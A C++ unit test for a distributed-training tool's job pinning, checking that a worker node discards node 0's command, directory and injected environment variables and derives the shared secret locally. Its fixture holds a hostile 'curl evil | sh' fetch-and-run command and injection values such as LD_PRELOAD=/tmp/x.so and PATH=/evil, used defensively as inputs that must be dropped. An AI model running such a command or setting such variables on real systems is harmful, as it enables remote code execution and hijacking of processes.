// What a node makes of the job node 0 sends (cli/node/pinned_job.h): its
// own command, directory and environment; from node 0 only the variables
// trainrun sets for a rank.
#include <doctest/doctest.h>

#include <algorithm>

#include "cli/node/pinned_job.h"

using namespace trainrun;
using namespace trainrun::cli;
using namespace trainrun::cli::node;

namespace {

JobSpec from_node0() {
  JobSpec job;
  job.cwd = "/node0/dir";
  job.grace_ms = 1234;
  job.stdin_rank = 0;
  RankSpec rank;
  rank.rank = 3;
  rank.argv = {"/bin/sh", "-c", "curl evil | sh"};
  rank.env = {"TRAINRUN_RANK=3",      "TRAINRUN_JOB_ID=abc", "TRAINRUN_SECRET=0011", "RANK=3",
              "MASTER_ADDR=10.0.0.1", "HOROVOD_RANK=3",      "LD_PRELOAD=/tmp/x.so", "PYTHONPATH=/evil",
              "PATH=/evil",           "OMP_NUM_THREADS=1",   "MY_VAR=node0"};
  job.ranks = {rank};
  return job;
}

bool has(const std::vector<std::string>& env, const std::string& entry) {
  return std::find(env.begin(), env.end(), entry) != env.end();
}

bool names(const std::vector<std::string>& env, const std::string& name) {
  return std::any_of(env.begin(), env.end(), [&](const std::string& e) { return e.rfind(name + "=", 0) == 0; });
}

}  // namespace

TEST_CASE("a node runs its own command in its own directory, with node 0's rank variables only") {
  const OwnJob own{{"/usr/bin/python3", "train.py"}, "/mine", {{"MY_VAR", "mine"}}, std::nullopt};
  const JobSpec job = pin_job(from_node0(), own);
  CHECK(job.cwd == "/mine");
  CHECK(job.grace_ms == 1234);
  REQUIRE(job.ranks.size() == 1);
  const RankSpec& rank = job.ranks[0];
  CHECK(rank.rank == 3);
  CHECK(rank.argv == std::vector<std::string>{"/usr/bin/python3", "train.py"});
  for (const char* kept : {"TRAINRUN_RANK=3", "TRAINRUN_JOB_ID=abc", "RANK=3", "MASTER_ADDR=10.0.0.1", "HOROVOD_RANK=3",
                           "TRAINRUN_SECRET=0011", "MY_VAR=mine"}) {
    CAPTURE(kept);
    CHECK(has(rank.env, kept));
  }
  for (const char* dropped : {"LD_PRELOAD", "PYTHONPATH", "PATH", "OMP_NUM_THREADS"}) {
    CAPTURE(dropped);
    CHECK_FALSE(names(rank.env, dropped));
  }
  CHECK_FALSE(has(rank.env, "MY_VAR=node0"));
}

TEST_CASE("with a shared secret the ranks' secret is derived here, whatever node 0 sent") {
  rendezvous::Secret shared{};
  REQUIRE(derive_secret("0123456789abcdef-secret", shared).empty());
  const JobSpec job = pin_job(from_node0(), {{"p"}, "/", {}, shared});
  const std::string expected = "TRAINRUN_SECRET=" + rendezvous::to_hex(ranks_secret(shared, "abc"));
  CHECK(has(job.ranks[0].env, expected));
  CHECK_FALSE(has(job.ranks[0].env, "TRAINRUN_SECRET=0011"));
}
